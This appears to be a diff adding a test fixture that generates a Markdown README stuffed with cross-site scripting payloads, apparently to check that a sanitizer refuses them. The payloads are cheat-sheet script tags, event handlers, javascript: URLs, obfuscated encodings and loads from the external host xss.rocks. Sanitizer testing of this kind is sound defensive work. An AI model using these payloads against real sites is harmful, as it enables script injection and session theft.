@@ -85,3 +85,51 @@ TOPICS: tuple[str, ...] = (
     "minecraft-mod", "fabric-mod", "STORAGE ", "tech", "performance", "a" * 51, "-leading-hyphen",
     "under_score", "ünïcode", "two words", "",
 )
+
+
+def hostile_markdown() -> str:
+    """A README (or release notes) with each payload of :data:`REFUSED` wherever Markdown or its
+    raw HTML can put a URL (inline link and image, reference, autolink, ``href``/``src`` quoted
+    both ways and bare), then the cheat sheet's markup families (script, event handlers, frames,
+    ``style``, ``meta``/``base``/``link``, ``object``/``embed``, forms, ``srcset``, the
+    ``noscript``/``math``/``template`` parser confusions) and the same in code, where it is text."""
+    lines = ["# Hostile", ""]
+    for i, p in enumerate(REFUSED):
+        q = p.replace('"', "&quot;")
+        lines += [
+            f"[link {i}]({p}) ![img {i}]({p}) [ref {i}][r{i}] <{p}>",
+            f'<a href="{q}">a {i}</a> <img src="{q}"> <a href=\'{p}\'>b</a> <img src={p.replace(" ", "")}>',
+            "", f"[r{i}]: {p}", "",
+        ]
+    lines += [
+        "<script>alert('XSS')</script>", "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
+        "<IMG SRC=\"javascript:alert('XSS');\">", "<IMG SRC=javascript:alert('XSS')>",
+        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>", "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
+        "<IMG SRC=# onmouseover=\"alert('xxs')\">", "<IMG SRC= onmouseover=\"alert('xxs')\">",
+        "<IMG onmouseover=\"alert('xxs')\">", "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
+        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
+        "<BODY ONLOAD=alert('XSS')>", "<svg/onload=alert('XSS')>", "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
+        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
+        "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
+        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">d</DIV>",
+        "<DIV STYLE=\"width: expression(alert('XSS'));\">e</DIV>", "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
+        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
+        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">", "<BASE HREF=\"javascript:alert('XSS');//\">",
+        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
+        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" AllowScriptAccess=\"always\"></EMBED>",
+        "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(2)\">go</button><input name=q></form>",
+        "<a href=\"https://example.com\" onclick=\"alert(1)\" style=\"position:fixed\" id=\"csrf\" name=\"x\">c</a>",
+        "<img srcset=\"javascript:alert(1) 1x\" src=\"https://example.com/x.png\">",
+        "<details open ontoggle=alert(1)><summary>s</summary>t</details>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!-- <img src=x onerror=alert(1)> -->",
+        "<xmp><img src=x onerror=alert(1)></xmp>", "<template><script>alert(1)</script></template>",
+        "<input type=\"image\" src=\"javascript:alert(1)\" onfocus=alert(1) autofocus>",
+        "<video><source onerror=\"alert(1)\"></video>", "<a href=\"&#x6A;avascript:alert(1)\">entity</a>",
+        "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>", "<a href=\" &#14;  javascript:alert(1)\">meta</a>",
+        "[md](javascript:alert&#40;1&#41;) [md2](<javascript:alert(1)>) [md3](JaVaScRiPt:alert(1))",
+        "![md4](\"onerror=\"alert(1)) [md5](https://example.com/\"onmouseover=\"alert(1))",
+        "<h1 onclick=alert(1)>heading</h1>", "", "`<script>alert('in code')</script>`", "",
+        "```html", "<script>alert('in a fence')</script>", "```",
+    ]
+    return "\n".join(lines)
